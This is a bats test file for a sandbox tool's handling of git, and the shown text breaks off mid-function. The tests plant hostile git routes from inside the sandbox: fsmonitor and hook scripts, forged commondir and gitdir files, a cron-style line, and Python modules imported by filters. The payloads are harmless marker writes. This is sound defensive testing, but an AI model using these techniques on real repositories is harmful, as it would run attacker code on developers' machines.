#!/usr/bin/env bats
# The sandbox and the host's git (issue 11 section 1, docs/sandbox.md "Git"): nothing a sandboxed
# command writes can make the host's git run code or move what is not the task's. Each route is
# tried from inside the sandbox, as root and as an ordinary user (made for this file), on real
# `git worktree add` worktrees in Fusion's `.worktrees/<task>` layout, and checked from the host: the
# refs and admin files are as they were, and a plain `git status` there runs no planted script (the
# script writes a marker file). The task's own git work (add, commit, amend, stash, rebase, reset)
# still reaches the repository. In the VM (Debian 12's kernel 6.1, `test_tags=kernel61`) the
# overlay over the common dir runs for root and the ordinary user (the `userxattr` one); exec-git.bats
# has the task's own git work there.

load helpers

setup_file() {
  [ "$EUID" = 0 ] || return 0
  command -v useradd >/dev/null && command -v setpriv >/dev/null || return 0
  export TEST_USER=fsrgit$$
  useradd -M -d /nonexistent -s /bin/sh "$TEST_USER"
}

teardown_file() {
  if [ -n "${TEST_USER:-}" ] && id "$TEST_USER" >/dev/null 2>&1; then
    userdel "$TEST_USER" >/dev/null 2>&1 || true
  fi
}

setup() {
  requires_root
  requires_fsrun_command sandbox
  requires_host_command git
  requires_host_command jq
  DIR=$(mktemp -d /tmp/fsrun-sbxgit.XXXXXX)
  chmod 755 "$DIR"
  REPO=$DIR/repo
  WT=$REPO/.worktrees/task
  OTHER=$REPO/.worktrees/other
  MARKER=$DIR/marker
  echo '{}' >"$DIR/policy.json"
  # the script a route plants: run by the host's git, it leaves the marker
  printf '#!/bin/sh\necho ran >>%s\n' "$MARKER" >"$DIR/evil.sh"
  chmod 755 "$DIR/evil.sh"
}

teardown() {
  [ -n "${DIR:-}" ] || return 0
  # the per-run dirs a failed test left in /dev/shm (an ordinary user's: run_dirs)
  [ -z "${OWNER:-}" ] || run_dirs | grep '^/dev/shm/' | xargs -r rm -rf --one-file-system
  # a failed test must not leave the repository mounted anywhere
  if grep -F -- "$DIR" /proc/self/mountinfo >&2; then
    echo "leftover mount of $DIR" >&2
    rm -rf --one-file-system "$DIR"
    return 1
  fi
  rm -rf --one-file-system "$DIR"
}

# as_owner CMD...: runs CMD as the owner of the repository of this test (root, or the test user)
as_owner() {
  if [ "$OWNER" = root ]; then
    "$@"
  else
    setpriv --reuid "$TEST_UID" --regid "$TEST_GID" --clear-groups env HOME="$DIR/home" "$@"
  fi
}

# run_dirs: the per-run git dirs of this test's state root, wherever they are (git_run_dirs)
run_dirs() {
  git_run_dirs "$DIR/state" "$([ "$OWNER" = user ] && echo "$TEST_UID" || echo 0)"
}

# wait_no_run_dirs: until run_dirs lists nothing (a killed fsrun's watchdog removing them: an
# event, the 60 s bound only ends the wait; the caller asserts what is left)
wait_no_run_dirs() {
  local tries=$((WAIT_MAX_S * 10))
  while [ -n "$(run_dirs)" ] && [ "$tries" -gt 0 ]; do
    sleep 0.1
    tries=$((tries - 1))
  done
}

# hgit ARGS...: the host's git, as the owner, with nothing of the caller's own config
hgit() {
  as_owner env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null git "$@"
}

# make_owner OWNER: $DIR, its home and state root, owned by OWNER (root | user)
make_owner() {
  OWNER=$1
  if [ "$OWNER" = user ]; then
    [ -n "${TEST_USER:-}" ] || skip "needs useradd and setpriv"
    TEST_UID=$(id -u "$TEST_USER")
    TEST_GID=$(id -g "$TEST_USER")
    setpriv --reuid "$TEST_UID" --regid "$TEST_GID" --clear-groups unshare -U true 2>/dev/null ||
      skip "an unprivileged user cannot create a user namespace on this host"
    chown "$TEST_UID:$TEST_GID" "$DIR"
  fi
  as_owner mkdir "$DIR/home" "$DIR/state"
}

# make_repo OWNER: the repository with two tasks' worktrees, owned by OWNER (root | user)
make_repo() {
  make_owner "$1"
  hgit init -q -b main "$REPO"
  hgit -C "$REPO" config user.email sandbox@example.invalid
  hgit -C "$REPO" config user.name sandbox
  as_owner sh -c 'echo one >"$1/README"' sh "$REPO"
  hgit -C "$REPO" add README
  hgit -C "$REPO" commit -qm first
  hgit -C "$REPO" worktree add -q -b task "$WT"
  hgit -C "$REPO" worktree add -q -b other "$OTHER"
  MAIN0=$(hgit -C "$REPO" rev-parse main)
}

# sbx [WORKTREE] -- SCRIPT: the script run by sh in `fsrun sandbox` on the worktree (the task's by
# default), as the owner; fsrun's stderr in $DIR/stderr. As root with --json ($output is the
# result); as the ordinary user without it, the command's stdout in $output: --json runs of an
# ordinary user can hang in set-up (issue 11 section 2, another change), and a hang must fail this
# file, not stall it (the timeout).
sbx() {
  local wt=$WT json=--json
  if [ "$1" != -- ]; then
    wt=$1
    shift
  fi
  shift
  [ "$OWNER" = root ] || json=
  status=0
  output=$(as_owner env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL="${SBX_GIT_GLOBAL:-/dev/null}" \
    timeout -s KILL 120 \
    "$FSRUN" --root "$DIR/state" sandbox $json --audit-log "$DIR/audit.jsonl" \
    --policy "$DIR/policy.json" --worktree "$wt" -- /bin/sh -c "$1" 2>"$DIR/stderr") || status=$?
  cat "$DIR/stderr"
  echo "$output"
  [ "$status" -eq 0 ]
  [ -z "$json" ] || status=$(jq -r .exitCode <<<"$output")
  [ "$status" -eq 0 ]
  result=$output # root: the --json result
  [ -z "$json" ] || output=$(jq -r .stdout <<<"$output")
  # nothing of the run is left in the state root but the shared bundle
  [ "$(ls -A "$DIR/state")" = .sandbox-bundle ]
}

# tamper: the paths of the runs' sandbox:tamper audit events, sorted, once each, as a JSON array (a
# task container's next exec may name again what changed in the tick before the last walk began)
tamper() {
  jq -cs '[.[] | select(.event == "sandbox:tamper") | .paths[]] | sort | unique' "$DIR/audit.jsonl"
}

# tamper's config: entries alone. An exec into a task container (exec-git.bats runs these routes)
# on the main checkout right after make_repo may also report the linked worktrees' .git files the
# host has just made: its walk reports what changed in the last clock tick before it began
# (docs/sandbox.md), a false alarm these tests do not pin. A one-shot run's cutoff is exact
# (host_repo_before_run).
config_tamper() {
  tamper | jq -c 'map(select(startswith("config:")))'
}

# the host's plain `git status` in DIR ran no planted script
assert_status_runs_nothing() {
  hgit -C "$1" status >/dev/null 2>&1 || true
  [ ! -e "$MARKER" ]
}

# a fake common dir made inside the worktree: a copy of the real one whose config runs the script
PLANT_GITDIR='cp -r ../../.git evil && git config -f evil/config core.fsmonitor '

route_commondir() {
  make_repo "$1"
  cp "$DIR/evil.sh" "$WT/"
  sbx -- "$PLANT_GITDIR$WT/evil.sh && echo \$PWD/evil >new && mv -f new ../../.git/worktrees/task/commondir; true"
  [ "$(cat "$REPO/.git/worktrees/task/commondir")" = ../.. ]
  assert_status_runs_nothing "$WT"
}

@test "sandbox-git: the task's commondir cannot be replaced (root)" {
  route_commondir root
}

@test "sandbox-git: the task's commondir cannot be replaced (ordinary user)" {
  route_commondir user
}

# fingerprint DIR: every entry's path, type, mode and size, and every file's sha256
fingerprint() {
  (cd "$1" && find . -printf '%p %y %m %s\n' | sort && find . -type f -exec sha256sum {} + | sort)
}

# route_foreign_gitdir root|user KIND: a command in a plain-directory worktree writes `.git` =
# `gitdir: $DIR/fake...` (review17b finding 0: as root, `gitdir: /etc/cron.d`; fake stands for it).
# KIND: empty (an empty dir), separate (a bare repository: `git init --separate-git-dir`'s layout,
# no back-pointer), lookalike (fake/worktrees/x with commondir and a gitdir file naming another
# worktree's .git). The next run is refused (125, one line naming the git dir), runs nothing, and
# fake is byte for byte as it was: nothing of it shown, nothing written into it.
route_foreign_gitdir() {
  make_repo "$1"
  local plain=$DIR/plain fake=$DIR/fake target before
  as_owner mkdir "$plain"
  target=$fake
  case $2 in
  empty) as_owner mkdir "$fake" ;;
  separate) hgit init -q --bare "$fake" ;;
  lookalike)
    hgit init -q --bare "$fake"
    as_owner mkdir -p "$fake/worktrees/x"
    as_owner sh -c 'echo ../.. >"$1/worktrees/x/commondir"; echo "$2" >"$1/worktrees/x/gitdir"' \
      sh "$fake" "$WT/.git"
    target=$fake/worktrees/x
    ;;
  esac
  as_owner sh -c 'echo secret >"$1/index"' sh "$fake"
  before=$(fingerprint "$fake")
  sbx "$plain" -- "printf 'gitdir: %s\n' '$target' >.git"
  [ "$(cat "$plain/.git")" = "gitdir: $target" ]
  status=0
  as_owner "$FSRUN" --root "$DIR/state" sandbox --policy "$DIR/policy.json" --worktree "$plain" \
    -- /bin/sh -c "touch ran; cat '$fake/index' >seen; cd '$target' && echo '* * * * * root id' >index && echo x >ORIG_HEAD" \
    2>"$DIR/stderr" || status=$?
  cat "$DIR/stderr"
  diff <(echo "$before") <(fingerprint "$fake")
  [ ! -e "$plain/ran" ] && [ ! -e "$plain/seen" ]
  [ "$status" -eq 125 ]
  [ "$(wc -l <"$DIR/stderr")" -eq 1 ]
  grep -q "git dir \`$target\`.*linked-worktree layout" "$DIR/stderr"
  [ -z "$(ls -A "$DIR/state" | grep -v '^.sandbox-bundle$')" ]
  # the task's worktree (git's own layout) still works
  sbx -- 'git status --short >/dev/null && echo ok'
  [ "$output" = ok ]
}

@test "sandbox-git: a .git file naming an empty dir is refused; the dir is neither shown nor written (root)" {
  route_foreign_gitdir root empty
}

@test "sandbox-git: a .git file naming an empty dir is refused; the dir is neither shown nor written (ordinary user)" {
  route_foreign_gitdir user empty
}

@test "sandbox-git: a .git file naming a git dir without a back-pointer is refused; it is neither shown nor written (root)" {
  route_foreign_gitdir root separate
}

@test "sandbox-git: a .git file naming a git dir without a back-pointer is refused; it is neither shown nor written (ordinary user)" {
  route_foreign_gitdir user separate
}

@test "sandbox-git: a .git file naming a worktrees/NAME whose gitdir names another .git is refused (root)" {
  route_foreign_gitdir root lookalike
}

@test "sandbox-git: a .git file naming a worktrees/NAME whose gitdir names another .git is refused (ordinary user)" {
  route_foreign_gitdir user lookalike
}

# route_sync_by_fd root|user: the common dir is moved away while the command runs and a decoy with
# git's shape put at its path: the sync applies the run's commit to the repository checked before
# the run (its fd), and writes nothing at the path. Fifos in the worktree order the steps.
route_sync_by_fd() {
  make_repo "$1"
  local moved=$REPO.moved decoy=$REPO/.git before pid
  as_owner mkfifo "$WT/ready" "$WT/go"
  as_owner env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null "$FSRUN" --root "$DIR/state" \
    sandbox --policy "$DIR/policy.json" --worktree "$WT" -- /bin/sh -c \
    'echo >ready; read x <go; echo two >README && git commit -qam inside' 2>"$DIR/stderr" &
  pid=$!
  timeout 60 cat "$WT/ready" >/dev/null
  mv "$REPO" "$moved"
  as_owner mkdir -p "$decoy/objects" "$decoy/refs/heads" "$decoy/logs/refs/heads" \
    "$decoy/worktrees/task"
  before=$(fingerprint "$decoy")
  echo >"$moved/.worktrees/task/go"
  status=0
  wait "$pid" || status=$?
  cat "$DIR/stderr"
  diff <(echo "$before") <(fingerprint "$decoy")
  [ "$status" -eq 0 ]
  [ "$(hgit -C "$moved" log -1 --format=%s task)" = inside ]
}

@test "sandbox-git: the sync writes into the common dir checked before the run, not what is at its path after (root)" {
  route_sync_by_fd root
}

@test "sandbox-git: the sync writes into the common dir checked before the run, not what is at its path after (ordinary user)" {
  route_sync_by_fd user
}

# route_lower_by_fd root|user: the overlay over the common dir is mounted with the directory checked
# on the host as its lower layer, given by its fd (the init opened the path again, through no link,
# and found that object), not by the path, which a component re-pointed by then would lead
# elsewhere. The refusal of another object is tests/unit/test-mounts.c's ("put at the checked
# path"); exec-git.bats shows it through a container ("leads elsewhere").
route_lower_by_fd() {
  make_repo "$1"
  local common
  common=$(realpath "$REPO/.git")
  sbx -- "grep ' $common ' /proc/self/mountinfo"
  grep -E " $common .* overlay overlay .*lowerdir=/proc/self/fd/[0-9]+," <<<"$output"
  ! grep -q "lowerdir=$common" <<<"$output" || false
  sbx -- "echo two >README && git commit -qam inside"
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = inside ]
}

# bats test_tags=kernel61
@test "sandbox-git: the overlay's lower layer is the common dir checked on the host, by fd (root)" {
  route_lower_by_fd root
}

# bats test_tags=kernel61
@test "sandbox-git: the overlay's lower layer is the common dir checked on the host, by fd (ordinary user)" {
  route_lower_by_fd user
}

route_main_commondir() {
  make_repo "$1"
  cp "$DIR/evil.sh" "$WT/"
  sbx -- "$PLANT_GITDIR$WT/evil.sh && echo $WT/evil >../../.git/commondir; true"
  [ ! -e "$REPO/.git/commondir" ]
  assert_status_runs_nothing "$REPO"
}

@test "sandbox-git: no commondir can be made in the main checkout's .git (root)" {
  route_main_commondir root
}

@test "sandbox-git: no commondir can be made in the main checkout's .git (ordinary user)" {
  route_main_commondir user
}

route_update_ref() {
  make_repo "$1"
  local other0
  other0=$(hgit -C "$REPO" rev-parse other)
  sbx -- 'echo two >>README && git commit -qam second &&
          git update-ref refs/heads/main HEAD && git update-ref refs/heads/other HEAD &&
          git update-ref refs/heads/new HEAD && git tag -f planted HEAD && echo moved'
  [[ $output == *moved* ]]
  [ "$(hgit -C "$REPO" rev-parse main)" = "$MAIN0" ]
  [ "$(hgit -C "$REPO" rev-parse other)" = "$other0" ]
  ! hgit -C "$REPO" rev-parse -q --verify refs/heads/new || false
  ! hgit -C "$REPO" rev-parse -q --verify refs/tags/planted || false
  # the task's own branch did move
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = second ]
  # and what was left out is said in the audit log
  jq -e 'select(.event == "sandbox:tamper") | .discarded | index("refs/heads/main")' "$DIR/audit.jsonl"
  grep -q "left out .*refs/heads/other" "$DIR/stderr"
}

@test "sandbox-git: update-ref moves neither main, another task's branch, a new ref nor a tag (root)" {
  route_update_ref root
}

@test "sandbox-git: update-ref moves neither main, another task's branch, a new ref nor a tag (ordinary user)" {
  route_update_ref user
}

route_other_admin() {
  make_repo "$1"
  cp "$DIR/evil.sh" "$WT/"
  local head0
  head0=$(cat "$REPO/.git/worktrees/other/HEAD")
  sbx -- "$PLANT_GITDIR$WT/evil.sh; a=../../.git/worktrees/other
          echo $WT/evil >\$a/commondir; echo 0000000000000000000000000000000000000000 >\$a/HEAD;
          echo x >\$a/index; true"
  [ "$(cat "$REPO/.git/worktrees/other/commondir")" = ../.. ]
  [ "$(cat "$REPO/.git/worktrees/other/HEAD")" = "$head0" ]
  hgit -C "$OTHER" status --porcelain
  [ -z "$(hgit -C "$OTHER" status --porcelain)" ]
  [ ! -e "$MARKER" ]
}

@test "sandbox-git: another worktree's admin dir stays as it was (root)" {
  route_other_admin root
}

@test "sandbox-git: another worktree's admin dir stays as it was (ordinary user)" {
  route_other_admin user
}

route_info() {
  make_repo "$1"
  sbx -- 'mkdir -p ../../.git/info; echo "* diff=evil" >../../.git/info/attributes;
          echo "*" >>../../.git/info/exclude; echo x >../../.git/packed-refs;
          echo "ref: refs/heads/task" >../../.git/HEAD; mkdir -p ../../.git/modules/m; true'
  [ ! -e "$REPO/.git/info/attributes" ]
  ! grep -qx '\*' "$REPO/.git/info/exclude" || false
  [ ! -e "$REPO/.git/packed-refs" ]
  [ "$(cat "$REPO/.git/HEAD")" = "ref: refs/heads/main" ]
  [ ! -e "$REPO/.git/modules" ]
}

@test "sandbox-git: info/, packed-refs, HEAD and modules/ of the common dir stay as they were (root)" {
  route_info root
}

@test "sandbox-git: info/, packed-refs, HEAD and modules/ of the common dir stay as they were (ordinary user)" {
  route_info user
}

# the documented host-side invocation (docs/sandbox.md, "Git on the host after a run")
safe_git() {
  hgit -c core.fsmonitor=false -c core.hooksPath=/dev/null -c submodule.recurse=false \
    -c diff.ignoreSubmodules=all -c status.submoduleSummary=false "$@"
}

route_gitlink() {
  make_repo "$1"
  sbx -- "mkdir sub && cd sub && git init -q && git -c user.name=s -c user.email=s@s commit -q --allow-empty -m sub &&
          git config core.fsmonitor $DIR/evil.sh && cd .. &&
          git update-index --add --cacheinfo 160000,\$(git -C sub rev-parse HEAD),sub &&
          mkdir -p deep/er && git init -q deep/er/repo && echo planted"
  [ "$(tamper)" = '["deep/er/repo/.git","sub","sub/.git"]' ]
  grep -q "nested git repositories" "$DIR/stderr"
  # through the documented invocation the planted submodule runs nothing
  safe_git -C "$WT" status --ignore-submodules=all >/dev/null
  safe_git -C "$WT" diff --ignore-submodules=all --no-ext-diff --no-textconv HEAD >/dev/null
  [ ! -e "$MARKER" ]
  # a plain `git status` is the documented hazard: it enters the gitlink and runs the script
  hgit -C "$WT" status >/dev/null 2>&1 || true
  [ -e "$MARKER" ]
}

@test "sandbox-git: a gitlink and nested git dirs the run made are reported; the documented host git runs nothing of them (root)" {
  route_gitlink root
}

@test "sandbox-git: a gitlink and nested git dirs the run made are reported; the documented host git runs nothing of them (ordinary user)" {
  route_gitlink user
}

# documented_then_plain_commit: the host commits the task's change with the documented
# `-c core.hooksPath=/dev/null`, which runs no hook (no marker), then a further change plainly
documented_then_plain_commit() {
  hgit -C "$WT" -c core.hooksPath=/dev/null commit -qam 'auto: task step'
  [ ! -e "$MARKER" ]
  as_owner sh -c 'echo four >>"$1/README"' sh "$WT"
  hgit -C "$WT" commit -qam plain
}

# route_husky OWNER: husky's layout, `core.hooksPath=.husky` with the hook a worktree file (issue:
# review19 #12). A run that leaves .husky alone reports nothing; one that rewrites .husky/pre-commit
# (EROFS is no help: it is project content) is reported as `config:core.hooksPath=.husky`, on
# stderr too. The documented host commit (`-c core.hooksPath=/dev/null`) runs nothing of it; a
# plain one runs the run's hook: the hazard the entry names.
route_husky() {
  make_repo "$1"
  hgit -C "$REPO" config core.hooksPath .husky
  as_owner mkdir "$WT/.husky"
  as_owner sh -c 'printf "#!/bin/sh\ntrue\n" >"$1" && chmod 755 "$1"' sh "$WT/.husky/pre-commit"
  sbx -- 'echo two >>README'
  [ "$(tamper)" = '[]' ]
  sbx -- "printf '#!/bin/sh\\necho ran >>$MARKER\\n' >.husky/pre-commit && echo three >>README"
  [ "$(tamper)" = '["config:core.hooksPath=.husky"]' ]
  grep -q 'config:core.hooksPath=.husky' "$DIR/stderr"
  documented_then_plain_commit
  [ -e "$MARKER" ]
}

@test "sandbox-git: a run that changes the hooks of core.hooksPath=.husky is reported; one that does not, not (root)" {
  route_husky root
}

@test "sandbox-git: a run that changes the hooks of core.hooksPath=.husky is reported; one that does not, not (ordinary user)" {
  route_husky user
}

# route_include OWNER: `include.path=../.gitconfig` (relative to the common dir: a file of the main
# checkout). A run there that writes `.gitconfig` (an fsmonitor of its choice) is reported as
# `config:include.path=../.gitconfig`; the documented host `git status` runs nothing, a plain one
# runs the fsmonitor.
route_include() {
  make_repo "$1"
  hgit -C "$REPO" config include.path ../.gitconfig
  sbx "$REPO" -- 'echo two >>README'
  [ "$(config_tamper)" = '[]' ]
  sbx "$REPO" -- "printf '[core]\\n\\tfsmonitor = $DIR/evil.sh\\n' >.gitconfig"
  [ "$(config_tamper)" = '["config:include.path=../.gitconfig"]' ]
  safe_git -C "$REPO" status >/dev/null
  [ ! -e "$MARKER" ]
  hgit -C "$REPO" status >/dev/null 2>&1 || true
  [ -e "$MARKER" ]
}

@test "sandbox-git: a run that writes the config file include.path names is reported (root)" {
  route_include root
}

@test "sandbox-git: a run that writes the config file include.path names is reported (ordinary user)" {
  route_include user
}

# route_wt_include OWNER: the task worktree's own config (extensions.worktreeConfig,
# `.git/worktrees/<name>/config.worktree`) includes `../wtinc`, which git takes from that file's
# dir, i.e. `.git/worktrees/wtinc` (fsrun took it from the common dir: `.git/../wtinc`, not there;
# review20 C). Its hooksPath .husky is the task worktree's: a run that rewrites .husky/pre-commit is
# reported, and the host's plain commit there runs it.
route_wt_include() {
  make_repo "$1"
  hgit -C "$REPO" config extensions.worktreeConfig true
  hgit -C "$WT" config --worktree include.path ../wtinc
  as_owner sh -c 'printf "[core]\n\thooksPath = .husky\n" >"$1"' sh "$REPO/.git/worktrees/wtinc"
  [ "$(hgit -C "$WT" config core.hooksPath)" = .husky ]
  as_owner mkdir "$WT/.husky"
  as_owner sh -c 'printf "#!/bin/sh\ntrue\n" >"$1" && chmod 755 "$1"' sh "$WT/.husky/pre-commit"
  sbx -- "printf '#!/bin/sh\\necho ran >>$MARKER\\n' >.husky/pre-commit"
  [ "$(config_tamper)" = '["config:core.hooksPath=.husky"]' ]
  as_owner sh -c 'echo four >>"$1/README"' sh "$WT"
  hgit -C "$WT" commit -qam plain
  [ -e "$MARKER" ]
}

@test "sandbox-git: a hooksPath the task worktree's config.worktree includes is watched from that file's dir (root)" {
  route_wt_include root
}

@test "sandbox-git: a hooksPath the task worktree's config.worktree includes is watched from that file's dir (ordinary user)" {
  route_wt_include user
}

# route_hook_managers OWNER: hooks a manager installed in hooks/ (read-only in the run) that read
# worktree files (review19 #12): stand-ins for lefthook's (`lefthook run` reads lefthook.yml) and
# the pre-commit framework's (reads .pre-commit-config.yaml), with their markers. Before they are
# installed, a run writing files of those names reports nothing; after, a run that leaves them
# alone reports nothing, one that edits them is reported as `hooks:<name>` (stderr too). The
# documented host commit runs nothing of them; a plain one runs what the run wrote.
route_hook_managers() {
  make_repo "$1"
  as_owner sh -c 'echo "pre-commit: {}" >"$1/lefthook.yml" && echo "repos: []" >"$2"' sh "$WT" \
    "$WT/.pre-commit-config.yaml"
  sbx -- "echo 'pre-commit: {run: x}' >lefthook.yml && echo 'repos: [x]' >.pre-commit-config.yaml"
  [ "$(tamper)" = '[]' ]
  as_owner sh -c 'cat >"$1/pre-commit" && chmod 755 "$1/pre-commit"' sh "$REPO/.git/hooks" <<'HOOK'
#!/bin/sh
# stand-in for lefthook's hook: call_lefthook run "pre-commit", the `run:` lines of lefthook.yml
sed -n 's/^ *run: //p' lefthook.yml | sh
HOOK
  as_owner sh -c 'cat >"$1/commit-msg" && chmod 755 "$1/commit-msg"' sh "$REPO/.git/hooks" <<'HOOK'
#!/bin/sh
# File generated by pre-commit: https://pre-commit.com (a stand-in: the `entry:` lines run)
sed -n 's/^[ -]*entry: //p' .pre-commit-config.yaml | sh
HOOK
  sbx -- 'echo two >>README'
  [ "$(tamper)" = '[]' ]
  local lefthook="pre-commit:\n  commands:\n    x:\n      run: echo ran >>$MARKER\n"
  local pre_commit="repos:\n- repo: local\n  hooks:\n  - entry: echo ran >>$MARKER\n"
  sbx -- "printf '$lefthook' >lefthook.yml && printf '$pre_commit' >.pre-commit-config.yaml &&
          echo three >>README"
  [ "$(tamper)" = '["hooks:.pre-commit-config.yaml","hooks:lefthook.yml"]' ]
  grep -q 'hooks:lefthook.yml' "$DIR/stderr"
  documented_then_plain_commit
  [ "$(cat "$MARKER")" = "$(printf 'ran\nran')" ]
}

@test "sandbox-git: a run that edits the files installed lefthook and pre-commit hooks read is reported (root)" {
  route_hook_managers root
}

@test "sandbox-git: a run that edits the files installed lefthook and pre-commit hooks read is reported (ordinary user)" {
  route_hook_managers user
}

# route_interpreters OWNER (review20 B): drivers that run an interpreter with the worktree's top as
# the current directory: nbstripout's own `"/usr/bin/python3" -m nbstripout` (Python imports a
# planted nbstripout.py from there), `sh clean.sh` (an argument, not a path with a `/`), and
# `diff.external=./d.sh` (a key that was not watched). A run writing an unrelated file reports
# nothing; each of the others is reported by its entry. The host's `add -A` with the filter's
# `-c` lines (docs/sandbox.md) runs nothing of the planted module; a plain one runs it.
route_interpreters() {
  make_repo "$1"
  [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
  hgit -C "$REPO" config filter.nbstripout.clean '"/usr/bin/python3" -m nbstripout'
  hgit -C "$REPO" config filter.x.clean 'sh clean.sh'
  hgit -C "$REPO" config diff.external ./d.sh
  as_owner sh -c 'cd "$1" && echo "*.ipynb filter=nbstripout" >.gitattributes && echo "{}" >a.ipynb &&
    echo cat >clean.sh && echo "#!/bin/sh" >d.sh' sh "$WT"
  local nb='config:filter.nbstripout.clean="/usr/bin/python3" -m nbstripout'
  sbx -- 'echo two >unrelated.txt'
  [ "$(config_tamper)" = '[]' ]
  sbx -- "printf 'import sys\\nopen(\"$MARKER\", \"a\").write(\"ran\\\\n\")\\nsys.stdout.write(sys.stdin.read())\\n' >nbstripout.py && echo '{ }' >a.ipynb"
  [ "$(config_tamper)" = "$(jq -cn --arg nb "$nb" '[$nb]')" ]
  grep -qF 'config:filter.nbstripout.clean=' "$DIR/stderr"
  sbx -- 'echo "echo ran >>$MARKER; cat" >clean.sh && echo ran >>d.sh'
  [ "$(config_tamper)" = "$(jq -cn --arg nb "$nb" '["config:diff.external=./d.sh", $nb, "config:filter.x.clean=sh clean.sh"]')" ]
  hgit -C "$WT" -c core.fsmonitor=false -c core.hooksPath=/dev/null -c filter.nbstripout.clean= \
    -c filter.nbstripout.smudge= -c filter.nbstripout.process= -c filter.nbstripout.required=false \
    add a.ipynb
  [ ! -e "$MARKER" ]
  as_owner sh -c 'echo "{  }" >"$1/a.ipynb"' sh "$WT"
  hgit -C "$WT" -c core.fsmonitor=false -c core.hooksPath=/dev/null add a.ipynb
  [ "$(cat "$MARKER")" = ran ]
}

@test "sandbox-git: a run planting a module a -m driver imports, or rewriting an interpreter's script or diff.external's, is reported (root)" {
  route_interpreters root
}

@test "sandbox-git: a run planting a module a -m driver imports, or rewriting an interpreter's script or diff.external's, is reported (ordinary user)" {
  route_interpreters user
}

# the module a route plants (at PATH): it leaves the marker, then passes its input through
plant_module() {
  printf 'import sys\nopen("%s", "a").write("ran\\n")\nsys.stdout.write(sys.stdin.read())\n' \
    "$MARKER" | as_owner sh -c 'cat >"$1"' sh "$1"
}

# write_as NAME FILE: a command for sbx that writes FILE's bytes (the host's: the sandbox has its
# own /tmp) to NAME
write_as() {
  echo "echo $(base64 -w0 "$2") | base64 -d >$1"
}

# route_python_imports OWNER (review22 F8): Python imports from the worktree's top before its own
# library, so a -m driver runs more of the run's than X.py: `nbstripout.pyc` (bytecode, no source)
# for nbstripout's filter, `argparse.py` for a `-m json.tool` textconv (json.tool imports it) are
# reported by the drivers' keys; a file written in a directory at the top, or a README, is not.
# The host's `add -A` and `diff` under hostGitArgs run nothing planted; plain, they run both.
route_python_imports() {
  make_repo "$1"
  [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
  hgit -C "$REPO" config filter.nbstripout.clean '"/usr/bin/python3" -m nbstripout'
  hgit -C "$REPO" config diff.pj.textconv '"/usr/bin/python3" -m json.tool'
  as_owner sh -c 'cd "$1" && printf "*.ipynb filter=nbstripout\n*.json diff=pj\n" >.gitattributes &&
    echo "{}" >a.ipynb && echo "{}" >b.json && mkdir src' sh "$WT"
  hgit -C "$WT" -c core.hooksPath=/dev/null add -A
  hgit -C "$WT" -c core.hooksPath=/dev/null commit -qm "nbstripout, json.tool"
  as_owner mkdir "$DIR/evil"
  plant_module "$DIR/evil/nbstripout.py"
  as_owner /usr/bin/python3 -c 'import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[2], doraise=True)' \
    "$DIR/evil/nbstripout.py" "$DIR/evil/nbstripout.pyc"
  plant_module "$DIR/evil/argparse.py"
  local nb='config:filter.nbstripout.clean="/usr/bin/python3" -m nbstripout'
  local pj='config:diff.pj.textconv="/usr/bin/python3" -m json.tool'
  sbx -- 'echo two >unrelated.txt && echo "import os" >src/tool.py && echo x >README.md'
  [ "$(config_tamper)" = '[]' ]
  sbx -- "$(write_as nbstripout.pyc "$DIR/evil/nbstripout.pyc") && echo '{ }' >a.ipynb"
  # both: what either imports from the top is watched as a whole (docs/sandbox.md)
  [ "$(config_tamper)" = "$(jq -cn --arg nb "$nb" --arg pj "$pj" '[$pj, $nb]')" ]
  grep -qF 'config:filter.nbstripout.clean=' "$DIR/stderr"
  python_host_git
  sbx -- "rm nbstripout.pyc && $(write_as argparse.py "$DIR/evil/argparse.py") && echo '{\"a\": 1}' >b.json && echo '{  }' >a.ipynb"
  [ "$(config_tamper)" = "$(jq -cn --arg nb "$nb" --arg pj "$pj" '[$pj, $nb]')" ]
  python_host_git
}

# python_host_git: the host's `diff`, `add -A` and `reset` (which refreshes: the filter runs)
# under the last run's hostGitArgs leave no marker; plain, `diff` and `add -A` leave it (the
# control). Git hands textconv temporary files (TMPDIR: the owner's own here).
python_host_git() {
  local args
  host_args >/dev/null
  mapfile -t args < <(host_args)
  [ "${#args[@]}" -gt 0 ]
  TMPDIR=$DIR/home hgit -C "$WT" "${args[@]}" diff >/dev/null
  hgit -C "$WT" "${args[@]}" -c core.hooksPath=/dev/null add -A
  hgit -C "$WT" "${args[@]}" reset -q
  [ ! -e "$MARKER" ]
  TMPDIR=$DIR/home hgit -C "$WT" diff >/dev/null 2>&1 || true
  hgit -C "$WT" -c core.hooksPath=/dev/null add -A 2>/dev/null
  [ -e "$MARKER" ]
  hgit -C "$WT" "${args[@]}" reset -q
  rm "$MARKER"
}

@test "sandbox-git: a run planting X.pyc or a module a -m driver imports (argparse.py) is reported, and hostGitArgs disarm it (root)" {
  route_python_imports root
}

@test "sandbox-git: a run planting X.pyc or a module a -m driver imports (argparse.py) is reported, and hostGitArgs disarm it (ordinary user)" {
  route_python_imports user
}

# route_python_global OWNER (review22 F6): nbstripout installed with --global (its per-user
# install: the filter in ~/.gitconfig) imports nbstripout from every worktree's top; a run that
# plants nbstripout.py is reported by the filter's key, and the host's `add -A` (HOME the test's)
# runs nothing of it under hostGitArgs; plain, it runs it.
route_python_global() {
  make_repo "$1"
  [ -x /usr/bin/python3 ] || skip "needs /usr/bin/python3"
  as_owner git config -f "$DIR/home/.gitconfig" filter.nbstripout.clean '"/usr/bin/python3" -m nbstripout'
  as_owner sh -c 'cd "$1" && echo "*.ipynb filter=nbstripout" >.gitattributes && echo "{}" >a.ipynb' \
    sh "$WT"
  plant_module "$DIR/nbstripout.py"
  HOME=$DIR/home sbx -- 'echo two >unrelated.txt'
  [ "$(config_tamper)" = '[]' ]
  HOME=$DIR/home sbx -- "$(write_as nbstripout.py "$DIR/nbstripout.py") && echo '{ }' >a.ipynb"
  [ "$(config_tamper)" = "$(jq -cn '["config:filter.nbstripout.clean=\"/usr/bin/python3\" -m nbstripout"]')" ]
  local args
